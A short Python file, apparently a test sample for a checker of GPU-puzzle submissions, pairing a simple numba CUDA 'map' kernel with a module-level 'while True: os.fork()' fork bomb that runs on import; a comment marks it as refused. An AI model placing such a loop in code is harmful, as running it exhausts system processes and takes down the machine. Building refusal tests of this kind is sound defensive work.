"""Processes without end."""
# refused: file: may import

import os
from numba import cuda

PUZZLE = "map"
while True:
    os.fork()


@cuda.jit
def kernel(out, a):
    i = cuda.threadIdx.x
    out[i] = 2 * a[i] + 1
